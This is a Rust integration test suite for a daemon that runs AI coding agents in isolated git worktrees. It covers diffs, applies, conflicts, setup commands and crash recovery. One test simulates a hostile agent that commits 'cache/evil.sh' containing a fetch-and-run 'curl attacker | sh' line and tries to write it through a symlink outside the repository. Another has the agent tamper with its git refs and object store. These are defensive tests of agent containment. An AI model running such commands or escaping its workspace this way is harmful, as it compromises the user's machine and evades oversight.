//! The git workshop against real repositories: an agent is simulated by the
//! test writing, deleting, renaming and committing files in the workdir.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::Command;

use caesard::config::{IsolationPref, WorktreeSection};
use caesard::oacp::{Isolation, Mode, Report, ReportStatus, Severity};
use caesard::workshop::{self, ErrorKind, PrepareInput, Prepared, WorkshopError};

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=Test", "-c", "user.email=test@example.invalid", "-c", "commit.gpgsign=false"])
        .args(["-c", "init.defaultBranch=main", "-c", "core.autocrlf=false"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn read(dir: &Path, rel: &str) -> String {
    std::fs::read_to_string(dir.join(rel)).unwrap()
}

/// A repository with a.txt, b.txt, lib/c.txt and one commit.
fn repo() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().canonicalize().unwrap();
    git(&root, &["init", "-q"]);
    write(&root, "a.txt", "one\ntwo\nthree\n");
    write(&root, "b.txt", "bee\n");
    write(&root, "lib/c.txt", "sea\nsea\nsea\nsea\nsea\nsea\n");
    git(&root, &["add", "-A"]);
    git(&root, &["commit", "-q", "-m", "init"]);
    (tmp, root)
}

fn input<'a>(ws: &'a Path, id: &'a str, iso: IsolationPref, mode: Mode, cfg: &'a WorktreeSection) -> PrepareInput<'a> {
    PrepareInput {
        workspace: ws,
        task_id: id,
        label: "implementer",
        objective: "Fix the greeting",
        isolation: iso,
        mode,
        allow_inplace_write: false,
        config: cfg,
        setup_timeout: Some(std::time::Duration::from_secs(30)),
        cancel: None,
        own_git_dir: true,
        scratch: None,
        launcher: None,
        base: None,
        unwritable: &[],
    }
}

fn worktree(root: &Path, id: &str) -> Prepared {
    let cfg = WorktreeSection::default();
    workshop::prepare(&input(root, id, IsolationPref::Auto, Mode::Write, &cfg)).unwrap()
}

fn status(p: &workshop::DiffResult) -> Vec<(String, String)> {
    p.files.iter().map(|f| (f.path.clone(), f.status.clone())).collect()
}

#[test]
fn auto_chooses_by_mode_and_repository() {
    let (_t, root) = repo();
    let cfg = WorktreeSection::default();
    let d = |ws: &Path, iso, mode| workshop::decide(ws, iso, mode, false);
    assert_eq!(d(&root, IsolationPref::Auto, Mode::Write).unwrap(), Isolation::Worktree);
    assert_eq!(d(&root, IsolationPref::Auto, Mode::ReadOnly).unwrap(), Isolation::Inplace);
    assert_eq!(d(&root, IsolationPref::Worktree, Mode::ReadOnly).unwrap(), Isolation::Worktree);
    assert!(workshop::decide(&root, IsolationPref::Inplace, Mode::Write, true).is_ok());

    // A write task in place is refused, with the remedy, and nothing is written.
    let e = workshop::prepare(&input(&root, "t_000000000001", IsolationPref::Inplace, Mode::Write, &cfg)).unwrap_err();
    assert!(matches!(e, WorkshopError::InplaceWriteRefused { .. }), "{e}");
    assert_eq!(e.kind(), ErrorKind::Precondition);
    let msg = e.to_string();
    assert!(msg.contains("isolation=worktree") && msg.contains("allow_inplace_write = true"), "{msg}");
    assert!(!root.join(".caesar").exists());
    assert!(!read(&root, ".git/info/exclude").contains(".caesar"));
    assert_eq!(git(&root, &["status", "--porcelain"]), "");

    let mut allowed = input(&root, "t_000000000002", IsolationPref::Inplace, Mode::Write, &cfg);
    allowed.allow_inplace_write = true;
    let p = workshop::prepare(&allowed).unwrap();
    assert_eq!((p.isolation, p.workdir.clone(), p.worktree.clone()), (Isolation::Inplace, root.clone(), None));
    assert!(p.before.is_some());
}

#[test]
fn worktree_is_made_on_a_named_branch_and_hidden_from_the_main_tree() {
    let (_t, root) = repo();
    let head = git(&root, &["rev-parse", "HEAD"]).trim().to_owned();
    let p = worktree(&root, "t_0123456789ab");
    assert_eq!(p.isolation, Isolation::Worktree);
    assert_eq!(p.worktree.as_deref(), Some(root.join(".caesar/wt/t_0123456789ab").as_path()));
    assert_eq!(p.workdir, root.join(".caesar/wt/t_0123456789ab"));
    assert_eq!(p.branch.as_deref(), Some("caesar/implementer/fix-the-greeting-456789ab"));
    assert_eq!(p.base_ref.as_deref(), Some(head.as_str()));
    assert_eq!(read(&p.workdir, "a.txt"), "one\ntwo\nthree\n");
    assert_eq!(git(&p.workdir, &["rev-parse", "--abbrev-ref", "HEAD"]).trim(), p.branch.as_deref().unwrap());
    // Not untracked in the main repository, and the main branch did not move.
    assert_eq!(git(&root, &["status", "--porcelain", "--untracked-files=all"]), "");
    assert_eq!(git(&root, &["rev-parse", "HEAD"]).trim(), head);
    assert!(workshop::diff(&p).unwrap().is_empty);
    // Prepared again (a daemon killed mid-preparation, restarted): what the
    // interrupted try made of this very task is replaced, not an error.
    write(&p.workdir, "a.txt", "half-made\n");
    let cfg = WorktreeSection::default();
    let again = workshop::prepare(&input(&root, "t_0123456789ab", IsolationPref::Worktree, Mode::Write, &cfg)).unwrap();
    assert_eq!((again.branch.as_deref(), again.worktree.as_deref()), (p.branch.as_deref(), p.worktree.as_deref()));
    assert_eq!(read(&again.workdir, "a.txt"), "one\ntwo\nthree\n");
    // The worktree's git directory is its own, borrowing the repository's
    // objects: the repository itself has no worktree record (issue 29).
    let git_dir = root.join(".caesar/wt/t_0123456789ab.git");
    assert_eq!(again.git_dir.as_deref(), Some(git_dir.as_path()));
    assert_eq!(git(&again.workdir, &["rev-parse", "--absolute-git-dir"]).trim(), git_dir.display().to_string());
    assert!(read(&git_dir, "objects/info/alternates").starts_with(&root.join(".git/objects").display().to_string()));
    let listed = git(&root, &["worktree", "list", "--porcelain"]);
    assert_eq!(listed.matches("worktree ").count(), 1, "the main tree only: {listed}");
}

#[test]
fn an_agent_that_commits_still_shows_its_changes() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_00000000c0c0");
    write(&p.workdir, "a.txt", "one\nTWO\nthree\n");
    git(&p.workdir, &["commit", "-q", "-am", "agent commit"]);
    write(&p.workdir, "b.txt", "bee\nbuzz\n");
    let d = workshop::diff(&p).unwrap();
    assert_eq!(status(&d), vec![("a.txt".into(), "modified".into()), ("b.txt".into(), "modified".into())]);
    assert_eq!((d.files[0].additions, d.files[0].deletions), (1, 1));
    assert_eq!((d.files[1].additions, d.files[1].deletions), (1, 0));
    assert!(d.patch.contains("-two\n+TWO\n") && d.patch.contains("+buzz\n"), "{}", d.patch);
    // The worktree's own index and HEAD were not touched by the diff.
    assert_eq!(git(&p.workdir, &["status", "--porcelain"]), " M b.txt\n");
}

#[test]
fn untracked_binary_and_deleted_files_are_seen_and_applied() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_0000000b1a55");
    let bin: Vec<u8> = (0u8..=255).cycle().take(3000).collect();
    std::fs::write(p.workdir.join("logo.bin"), &bin).unwrap();
    write(&p.workdir, "docs/new.md", "# new\nline\n");
    std::fs::remove_file(p.workdir.join("b.txt")).unwrap();
    let d = workshop::diff(&p).unwrap();
    let mut got = status(&d);
    got.sort();
    assert_eq!(
        got,
        vec![
            ("b.txt".into(), "deleted".into()),
            ("docs/new.md".into(), "added".into()),
            ("logo.bin".into(), "added".into())
        ]
    );
    let logo = d.files.iter().find(|f| f.path == "logo.bin").unwrap();
    assert!(logo.binary);
    assert!(d.patch.contains("GIT binary patch"), "{}", d.patch);
    assert_eq!(d.files.iter().find(|f| f.path == "docs/new.md").unwrap().additions, 2);

    let head = git(&root, &["rev-parse", "HEAD"]);
    let r = workshop::apply(&p).unwrap();
    assert!(r.applied && !r.already_applied && r.conflicts.is_empty(), "{r:?}");
    assert_eq!(std::fs::read(root.join("logo.bin")).unwrap(), bin);
    assert_eq!(read(&root, "docs/new.md"), "# new\nline\n");
    assert!(!root.join("b.txt").exists());
    // Never staged, never committed, no branch moved.
    assert_eq!(git(&root, &["diff", "--cached", "--name-only"]), "");
    assert_eq!(git(&root, &["rev-parse", "HEAD"]), head);
    assert_eq!(git(&root, &["status", "--porcelain"]), " D b.txt\n?? docs/\n?? logo.bin\n");
}

#[test]
fn a_rename_is_reported_as_one() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_00000000aaaa");
    std::fs::rename(p.workdir.join("lib/c.txt"), p.workdir.join("lib/sea.txt")).unwrap();
    let d = workshop::diff(&p).unwrap();
    assert_eq!(d.files.len(), 1, "{:?}", d.files);
    let f = &d.files[0];
    assert_eq!(
        (f.path.as_str(), f.status.as_str(), f.old_path.as_deref()),
        ("lib/sea.txt", "renamed", Some("lib/c.txt"))
    );
    assert!(d.patch.contains("rename from lib/c.txt"), "{}", d.patch);
    let mut report = Report::new(&p.task_id, ReportStatus::Success, "renamed");
    assert_eq!(workshop::reconcile(&mut report, Some(&d)), "git");
    assert_eq!(report.changes[0].summary, "renamed from lib/c.txt");
    assert!(workshop::apply(&p).unwrap().applied);
    assert!(!root.join("lib/c.txt").exists() && root.join("lib/sea.txt").exists());
}

#[test]
fn a_conflicting_apply_writes_nothing_and_applying_twice_is_answered() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_00000000beef");
    write(&p.workdir, "a.txt", "one\nTASK\nthree\n");
    write(&p.workdir, "lib/c.txt", "sea\nsea\nsea\nsea\nsea\nTASK\n");
    // The user commits an overlapping change to a.txt after the task started.
    write(&root, "a.txt", "one\nUSER\nthree\n");
    git(&root, &["commit", "-q", "-am", "user"]);
    let r = workshop::apply(&p).unwrap();
    assert!(!r.applied && !r.already_applied, "{r:?}");
    assert_eq!(r.conflicts.iter().map(|c| c.path.as_str()).collect::<Vec<_>>(), vec!["a.txt"]);
    assert!(r.conflicts[0].reason.contains(p.branch.as_deref().unwrap()), "{}", r.conflicts[0].reason);
    // Never partial: lib/c.txt, which merges cleanly, was not written either.
    assert_eq!(git(&root, &["status", "--porcelain"]), "");

    // The user reverts; now it applies, the second time it is already applied.
    git(&root, &["reset", "-q", "--hard", "HEAD~1"]);
    let r = workshop::apply(&p).unwrap();
    assert!(r.applied, "{r:?}");
    let mut files = r.files.clone();
    files.sort();
    assert_eq!(files, vec!["a.txt", "lib/c.txt"]);
    let again = workshop::apply(&p).unwrap();
    assert!(!again.applied && again.already_applied && again.conflicts.is_empty(), "{again:?}");
    assert!(again.message.contains("already applied"));
    // Still answered after the applied changes were committed.
    git(&root, &["commit", "-q", "-am", "took the task"]);
    assert!(workshop::apply(&p).unwrap().already_applied);
}

#[test]
fn a_dirty_file_in_the_main_tree_is_a_conflict_not_an_overwrite() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_00000000d1d1");
    write(&p.workdir, "lib/c.txt", "sea\nsea\nsea\nsea\nsea\nTASK\n");
    write(&p.workdir, "b.txt", "bee\ntask\n");
    // Uncommitted, non-overlapping: still the user's work, still a conflict.
    write(&root, "lib/c.txt", "USER\nsea\nsea\nsea\nsea\nsea\n");
    let r = workshop::apply(&p).unwrap();
    assert!(!r.applied);
    assert_eq!(r.conflicts.len(), 1);
    assert_eq!(r.conflicts[0].path, "lib/c.txt");
    assert!(r.conflicts[0].reason.contains("uncommitted"), "{}", r.conflicts[0].reason);
    assert_eq!(read(&root, "lib/c.txt"), "USER\nsea\nsea\nsea\nsea\nsea\n");
    assert_eq!(read(&root, "b.txt"), "bee\n");
    // A clean commit on another file since the base merges in.
    write(&root, "lib/c.txt", "sea\nsea\nsea\nsea\nsea\nsea\n");
    write(&root, "a.txt", "one\ntwo\nthree\nfour\n");
    git(&root, &["commit", "-q", "-am", "user adds four"]);
    let r = workshop::apply(&p).unwrap();
    assert!(r.applied, "{r:?}");
    assert_eq!(read(&root, "a.txt"), "one\ntwo\nthree\nfour\n");
    assert_eq!(read(&root, "b.txt"), "bee\ntask\n");
}

#[test]
fn inplace_on_a_dirty_tree_reports_only_the_tasks_changes() {
    let (_t, root) = repo();
    // The user's own prior work: a modification, a staged file, an untracked file.
    write(&root, "a.txt", "one\nUSER\nthree\n");
    write(&root, "staged.txt", "staged\n");
    git(&root, &["add", "staged.txt"]);
    write(&root, "notes.txt", "mine\n");
    let index_before = std::fs::read(root.join(".git/index")).unwrap();
    let cfg = WorktreeSection::default();
    let p = workshop::prepare(&input(&root, "t_00000000face", IsolationPref::Auto, Mode::ReadOnly, &cfg)).unwrap();
    assert_eq!(p.isolation, Isolation::Inplace);
    assert!(p.before.is_some());
    // The agent edits another file, one the user had touched, and adds one.
    write(&root, "b.txt", "bee\nagent\n");
    write(&root, "notes.txt", "mine\nagent\n");
    write(&root, "out/agent.txt", "new\n");
    let d = workshop::diff(&p).unwrap();
    let mut got = status(&d);
    got.sort();
    assert_eq!(
        got,
        vec![
            ("b.txt".into(), "modified".into()),
            ("notes.txt".into(), "modified".into()),
            ("out/agent.txt".into(), "added".into())
        ]
    );
    assert!(!d.patch.contains("USER"), "{}", d.patch);
    let notes = d.files.iter().find(|f| f.path == "notes.txt").unwrap();
    assert_eq!((notes.additions, notes.deletions), (1, 0));
    // The real index was not touched by either snapshot.
    assert_eq!(std::fs::read(root.join(".git/index")).unwrap(), index_before);
    assert_eq!(git(&root, &["diff", "--cached", "--name-only"]), "staged.txt\n");
    // A read-only task that changed files: a high finding listing them.
    let f = workshop::read_only_violation(&d).unwrap();
    assert_eq!(f.severity, Severity::High);
    assert!(f.detail.contains("b.txt") && f.detail.contains("out/agent.txt") && !f.detail.contains("a.txt"));
    // Inplace work cannot be applied; there is nothing to remove.
    assert_eq!(workshop::apply(&p).unwrap_err().kind(), ErrorKind::Precondition);
    assert_eq!(workshop::remove(&p, false).unwrap(), workshop::Removed::default());
}

/// Issue 33: where the kernel keeps a read-only task's writes out of its
/// repository, no snapshot is taken and nothing is diffed: a change made
/// meanwhile (the user's own) is not the task's. A tree the kernel does not
/// cover, and a write task, are snapshotted as before.
#[test]
fn a_tree_the_kernel_keeps_read_only_is_not_snapshotted() {
    let (_t, root) = repo();
    let cfg = WorktreeSection::default();
    let covered = [root.parent().unwrap().to_path_buf()];
    let mut kept = input(&root, "t_0000000000a1", IsolationPref::Auto, Mode::ReadOnly, &cfg);
    kept.unwritable = &covered;
    let p = workshop::prepare(&kept).unwrap();
    assert_eq!((p.isolation, p.kernel_read_only, p.before.as_deref()), (Isolation::Inplace, true, None));
    let elsewhere = [root.join("lib")];
    let mut beside = input(&root, "t_0000000000a2", IsolationPref::Auto, Mode::ReadOnly, &cfg);
    beside.unwritable = &elsewhere;
    let q = workshop::prepare(&beside).unwrap();
    assert!(!q.kernel_read_only && q.before.is_some(), "{q:?}");
    write(&root, "b.txt", "bee\nuser\n");
    let d = workshop::diff(&p).unwrap();
    assert!(d.is_empty && d.files.is_empty() && d.from_tree.is_empty() && d.by_kernel, "{d:?}");
    assert!(workshop::read_only_violation(&d).is_none());
    assert_eq!(status(&workshop::diff(&q).unwrap()), vec![("b.txt".to_owned(), "modified".to_owned())]);
    // Stored and read back, the workshop keeps its word.
    let stored: Prepared = serde_json::from_str(&serde_json::to_string(&p).unwrap()).unwrap();
    assert!(stored.kernel_read_only);
    let old: Prepared = serde_json::from_str(&serde_json::to_string(&q).unwrap()).unwrap();
    assert!(!old.kernel_read_only && !serde_json::to_string(&q).unwrap().contains("kernel_read_only"));
    let mut write_task = input(&root, "t_0000000000a3", IsolationPref::Inplace, Mode::Write, &cfg);
    write_task.allow_inplace_write = true;
    write_task.unwritable = &covered;
    let w = workshop::prepare(&write_task).unwrap();
    assert!(!w.kernel_read_only && w.before.is_some());
}

#[test]
fn copy_link_and_setup_make_the_workshop_and_stay_out_of_the_diff() {
    let (_t, root) = repo();
    write(&root, ".gitignore", "node_modules/\n.env\nbuild/\ncache\n");
    git(&root, &["add", ".gitignore"]);
    git(&root, &["commit", "-q", "-m", "ignore"]);
    write(&root, "node_modules/pkg/index.js", "module.exports = 1;\n");
    write(&root, ".env", "SECRET=1\n");
    write(&root, "cache/blob", "cached\n");
    write(&root, "untracked.txt", "neither\n");
    let cfg = WorktreeSection {
        copy: vec![".env".into(), "cache".into(), "missing".into(), "a.txt".into(), "untracked.txt".into()],
        link: vec!["node_modules".into(), ".env".into(), "../out".into(), ".git/hooks".into()],
        setup: vec!["mkdir -p build && echo built > build/out".into(), "test -L node_modules".into()],
    };
    let p = workshop::prepare(&input(&root, "t_0000000c0e1e", IsolationPref::Worktree, Mode::Write, &cfg)).unwrap();
    assert_eq!(p.placed, vec![".env", "cache", "node_modules"]);
    assert_eq!(read(&p.workdir, ".env"), "SECRET=1\n");
    assert_eq!(read(&p.workdir, "cache/blob"), "cached\n");
    let link = p.workdir.join("node_modules");
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
    assert_eq!(read(&p.workdir, "node_modules/pkg/index.js"), "module.exports = 1;\n");
    assert_eq!(read(&p.workdir, "build/out"), "built\n");
    let titles: Vec<&str> = p.findings.iter().map(|f| f.title.as_str()).collect();
    let expect = [
        "worktree.copy `missing` not placed: it is absent from the workspace",
        "worktree.copy `a.txt` not placed: it is tracked by git",
        "worktree.copy `untracked.txt` not placed: it is neither tracked nor ignored",
        "worktree.link `.env` not placed: it is already present",
        "worktree.link `../out` not placed: it contains `..` and would leave the workspace",
        "worktree.link `.git/hooks` not placed: it is under .git or .caesar, which belong to git and to caesar",
    ];
    assert_eq!(titles, expect);
    assert!(p.findings[2].detail.contains(".gitignore"));
    // The symlink `node_modules` is not ignored by `node_modules/`, yet it is
    // excluded by prefix; the agent's own change shows.
    assert!(workshop::diff(&p).unwrap().is_empty);
    write(&p.workdir, "node_modules/pkg/extra.js", "shared\n");
    write(&p.workdir, ".env", "SECRET=2\n");
    write(&p.workdir, "a.txt", "agent\n");
    assert_eq!(status(&workshop::diff(&p).unwrap()), vec![("a.txt".into(), "modified".into())]);
    // Removal deletes the link, not what it points to.
    workshop::apply(&p).unwrap();
    let removed = workshop::remove(&p, false).unwrap();
    assert!(removed.worktree_removed && removed.branch_deleted, "{removed:?}");
    assert!(root.join("node_modules/pkg/index.js").exists());
    assert_eq!(read(&root, ".env"), "SECRET=1\n");
}

#[test]
fn a_failing_setup_aborts_with_command_code_and_output_and_leaves_nothing() {
    let (_t, root) = repo();
    let cfg = WorktreeSection {
        copy: vec![],
        link: vec![],
        setup: vec!["true".into(), "echo to-out; echo to-err >&2; exit 3".into(), "touch never".into()],
    };
    let e = workshop::prepare(&input(&root, "t_00000000fa11", IsolationPref::Auto, Mode::Write, &cfg)).unwrap_err();
    match &e {
        WorkshopError::SetupFailed { command, exit_code, output, .. } => {
            assert_eq!(command, "echo to-out; echo to-err >&2; exit 3");
            assert_eq!(*exit_code, Some(3));
            assert_eq!(output, "to-out\nto-err");
        }
        other => panic!("{other}"),
    }
    assert!(e.to_string().contains("exit code 3") && e.to_string().contains("[worktree] setup"), "{e}");
    assert!(!root.join(".caesar/wt/t_00000000fa11").exists());
    assert_eq!(git(&root, &["branch", "--list", "caesar/*"]), "");
    assert_eq!(git(&root, &["worktree", "list"]).lines().count(), 1);

    // A hanging command is killed at the timeout.
    let cfg = WorktreeSection { copy: vec![], link: vec![], setup: vec!["echo slow; sleep 30".into()] };
    let mut slow = input(&root, "t_00000000510e", IsolationPref::Auto, Mode::Write, &cfg);
    slow.setup_timeout = Some(std::time::Duration::from_millis(300));
    let started = std::time::Instant::now();
    match workshop::prepare(&slow).unwrap_err() {
        WorkshopError::SetupFailed { exit_code: None, output, .. } => assert!(output.starts_with("slow\n"), "{output}"),
        other => panic!("{other}"),
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
}

#[test]
fn remove_refuses_unapplied_work_and_keeps_unique_commits() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_000000000c11");
    write(&p.workdir, "a.txt", "agent\n");
    assert!(workshop::has_unmerged_work(&p).unwrap());
    let e = workshop::remove(&p, false).unwrap_err();
    assert!(matches!(e, WorkshopError::UnmergedWork { files: 1, .. }), "{e}");
    assert!(e.to_string().contains("neither applied nor discarded"));
    assert!(p.worktree.as_ref().unwrap().exists());

    // The agent commits and its task ends (its commit becomes its branch's);
    // applied, the worktree may go, the branch stays.
    git(&p.workdir, &["commit", "-q", "-am", "agent"]);
    workshop::capture(&p).unwrap();
    let state = workshop::inspect(&p).unwrap();
    assert_eq!((state.changed_files, state.in_main, state.unique_commits), (1, false, 1));
    assert!(workshop::apply(&p).unwrap().applied);
    assert!(!workshop::has_unmerged_work(&p).unwrap());
    let r = workshop::remove(&p, false).unwrap();
    assert!(r.worktree_removed && !r.branch_deleted, "{r:?}");
    assert!(r.branch_kept.as_deref().unwrap().contains("1 commit(s)"));
    assert!(!p.worktree.as_ref().unwrap().exists());
    assert_eq!(git(&root, &["worktree", "list"]).lines().count(), 1);
    // Without the worktree the facts come from the branch; force deletes it.
    let state = workshop::inspect(&p).unwrap();
    assert_eq!((state.worktree_present, state.changed_files, state.in_main), (false, 1, true));
    assert!(workshop::remove(&p, true).unwrap().branch_deleted);
    assert_eq!(git(&root, &["branch", "--list", "caesar/*"]), "");

    // Force removes unapplied work too; a diff afterwards says it is gone.
    let q = worktree(&root, "t_000000000c12");
    write(&q.workdir, "b.txt", "lost\n");
    let r = workshop::remove(&q, true).unwrap();
    assert!(r.worktree_removed && r.branch_deleted);
    assert!(matches!(workshop::diff(&q).unwrap_err(), WorkshopError::WorktreeGone { .. }));
}

#[test]
fn a_repository_without_a_commit_works_in_place() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().canonicalize().unwrap();
    git(&root, &["init", "-q"]);
    write(&root, "draft.txt", "user\n");
    let cfg = WorktreeSection::default();
    let p = workshop::prepare(&input(&root, "t_00000000e111", IsolationPref::Auto, Mode::Write, &cfg)).unwrap();
    assert_eq!((p.isolation, p.repo_root.as_deref()), (Isolation::Inplace, Some(root.as_path())));
    write(&root, "agent.txt", "agent\n");
    let d = workshop::diff(&p).unwrap();
    assert_eq!(status(&d), vec![("agent.txt".into(), "added".into())]);
    let e = workshop::prepare(&input(&root, "t_00000000e112", IsolationPref::Worktree, Mode::Write, &cfg)).unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Invalid);
    assert!(e.to_string().contains("no commit yet"), "{e}");
}

#[test]
fn a_directory_that_is_not_a_repository_leaves_the_declaration_standing() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    let cfg = WorktreeSection::default();
    let p = workshop::prepare(&input(&dir, "t_00000000f00d", IsolationPref::Auto, Mode::Write, &cfg)).unwrap();
    assert_eq!((p.isolation, p.repo_root.clone(), p.before.clone()), (Isolation::Inplace, None, None));
    let e = workshop::diff(&p).unwrap_err();
    assert!(matches!(e, WorkshopError::NoRepository { .. }) && e.kind() == ErrorKind::Precondition, "{e}");
    let mut report = Report::new("t", ReportStatus::Success, "done");
    assert_eq!(workshop::reconcile(&mut report, None), "declaration");
    let e = workshop::prepare(&input(&dir, "t_00000000f00e", IsolationPref::Worktree, Mode::Write, &cfg)).unwrap_err();
    assert!(e.to_string().contains("not in a git repository"), "{e}");
    assert!(std::fs::read_dir(&dir).unwrap().next().is_none(), "nothing written");
}

#[test]
fn a_subdirectory_workspace_runs_in_its_counterpart_and_survives_a_restart() {
    let (_t, root) = repo();
    let cfg = WorktreeSection::default();
    let ws = root.join("lib");
    let p = workshop::prepare(&input(&ws, "t_00000000505b", IsolationPref::Auto, Mode::Write, &cfg)).unwrap();
    assert_eq!(p.workdir, root.join(".caesar/wt/t_00000000505b/lib"));
    assert_eq!(p.repo_root.as_deref(), Some(root.as_path()));
    write(&p.workdir, "c.txt", "changed\n");
    // Stored as JSON, read back by a restarted daemon.
    let json = serde_json::to_string(&p).unwrap();
    let back: Prepared = serde_json::from_str(&json).unwrap();
    assert_eq!(back, p);
    let d = workshop::diff(&back).unwrap();
    assert_eq!(status(&d), vec![("lib/c.txt".into(), "modified".into())]);
    let mut report = Report::new("t", ReportStatus::Success, "done");
    report.changes.push(caesard::oacp::Change {
        path: "c.txt".into(),
        action: caesard::oacp::ChangeAction::Modified,
        summary: "rewrote".into(),
    });
    assert_eq!(workshop::reconcile(&mut report, Some(&d)), "git");
    assert_eq!((report.changes[0].path.as_str(), report.findings.len()), ("lib/c.txt", 0));
    assert!(workshop::apply(&back).unwrap().applied);
    assert_eq!(read(&root, "lib/c.txt"), "changed\n");
}

/// Not a test: the child process of `preparation_killed_at_any_moment_can_be_redone`,
/// which runs this binary with `--ignored --exact` to have a preparation to
/// kill. It prepares the task named in the environment, then idles until
/// killed. Ignored, so that no run of the suite counts it as a test passed.
#[test]
#[ignore = "not a test: the child process of preparation_killed_at_any_moment_can_be_redone"]
fn prepare_in_a_child_process() {
    let (Ok(root), Ok(id)) = (std::env::var("CAESAR_TEST_PREPARE_ROOT"), std::env::var("CAESAR_TEST_PREPARE_ID"))
    else {
        panic!("not a test: preparation_killed_at_any_moment_can_be_redone runs it with the task to prepare");
    };
    let root = PathBuf::from(root);
    let cfg = WorktreeSection { setup: vec!["sleep 5".into()], ..WorktreeSection::default() };
    let _ = workshop::prepare(&input(&root, &id, IsolationPref::Worktree, Mode::Write, &cfg));
}

#[test]
fn preparation_killed_at_any_moment_can_be_redone() {
    let (_t, root) = repo();
    let me = std::env::current_exe().unwrap();
    let cfg = WorktreeSection::default();
    let mut interrupted = 0;
    for round in 0..40u64 {
        let id = format!("t_0000000000{round:02}");
        // Several interrupted tries, each killed a little later, then one in process.
        for kill_after_ms in [(round * 3) % 20, (round * 7) % 60, (round * 11) % 150] {
            let mut child = Command::new(&me)
                .args(["--exact", "prepare_in_a_child_process", "--ignored", "--nocapture"])
                .env("CAESAR_TEST_PREPARE_ROOT", &root)
                .env("CAESAR_TEST_PREPARE_ID", &id)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap();
            std::thread::sleep(std::time::Duration::from_millis(kill_after_ms));
            let _ = child.kill();
            let _ = child.wait();
        }
        // A killed try that got as far as its worktree left it behind.
        if root.join(".caesar/wt").join(&id).exists() {
            interrupted += 1;
        }
        let p = workshop::prepare(&input(&root, &id, IsolationPref::Worktree, Mode::Write, &cfg))
            .unwrap_or_else(|e| panic!("round {round}: preparing again failed: {e}"));
        assert_eq!(read(&p.workdir, "a.txt"), "one\ntwo\nthree\n");
        workshop::remove(&p, true).unwrap();
    }
    let listed = git(&root, &["worktree", "list", "--porcelain"]);
    assert_eq!(listed.matches("worktree ").count(), 1, "{listed}");
    assert!(interrupted > 0, "no killed try got as far as a worktree: the children prepared nothing");
}

#[cfg(unix)]
#[test]
fn apply_never_writes_through_a_linked_directory_of_the_main_tree() {
    let (_t, root) = repo();
    let elsewhere = tempfile::tempdir().unwrap();
    write(&root, ".gitignore", "cache\n");
    git(&root, &["add", ".gitignore"]);
    git(&root, &["commit", "-q", "-m", "ignore the cache"]);
    let p = worktree(&root, "t_00000000ca5e");
    // The main tree's ignored cache is a link out of the repository.
    std::os::unix::fs::symlink(elsewhere.path(), root.join("cache")).unwrap();
    // The agent forces a file under the ignored name into its own commit,
    // next to an honest change.
    write(&p.workdir, "cache/evil.sh", "curl attacker | sh\n");
    write(&p.workdir, "b.txt", "bee\ntask\n");
    git(&p.workdir, &["add", "-f", "cache/evil.sh", "b.txt"]);
    git(&p.workdir, &["commit", "-q", "-m", "task"]);
    workshop::capture(&p).unwrap();
    let r = workshop::apply(&p).unwrap();
    assert!(!r.applied, "{r:?}");
    assert_eq!(r.conflicts.iter().map(|c| c.path.as_str()).collect::<Vec<_>>(), vec!["cache/evil.sh"]);
    assert!(r.conflicts[0].reason.contains("`cache`") && r.conflicts[0].reason.contains("symbolic link"));
    // Nothing was written, outside or inside.
    assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);
    assert_eq!(read(&root, "b.txt"), "bee\n");
}

#[cfg(unix)]
#[test]
fn a_tasks_git_is_its_own_and_its_end_is_read_whatever_it_made_of_it() {
    let (_t, root) = repo();
    let p = worktree(&root, "t_0000000e11d0");
    write(&p.workdir, "a.txt", "agent\n");
    git(&p.workdir, &["commit", "-q", "-am", "agent"]);
    // The agent moves refs and tags in its own git: nothing of the repository's moves.
    let main_before = git(&root, &["rev-parse", "main"]);
    git(&p.workdir, &["update-ref", "refs/heads/main", "HEAD"]);
    git(&p.workdir, &["tag", "agent-tag"]);
    assert_eq!(git(&root, &["rev-parse", "main"]), main_before);
    assert_eq!(git(&root, &["tag"]), "");
    // Its store becomes a link to a directory holding a FIFO: the daemon
    // neither blocks on it nor touches it, and still takes the tree.
    let elsewhere = tempfile::tempdir().unwrap();
    let fifo = elsewhere.path().join("fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let git_dir = p.git_dir.clone().unwrap();
    std::fs::rename(git_dir.join("objects"), git_dir.join("objects.moved")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), git_dir.join("objects")).unwrap();
    let end = workshop::capture(&p).unwrap().unwrap();
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&std::fs::symlink_metadata(&fifo).unwrap().file_type()));
    let end_ref = workshop::end_ref(&p.task_id);
    assert_eq!(git(&root, &["rev-parse", &end_ref]).trim(), end.to_string());
    assert_eq!(git(&root, &["show", &format!("{end_ref}:a.txt")]), "agent\n");
    assert_eq!(status(&workshop::diff(&p).unwrap()), vec![("a.txt".to_owned(), "modified".to_owned())]);
    assert!(workshop::apply(&p).unwrap().applied);
    assert_eq!(read(&root, "a.txt"), "agent\n");
}
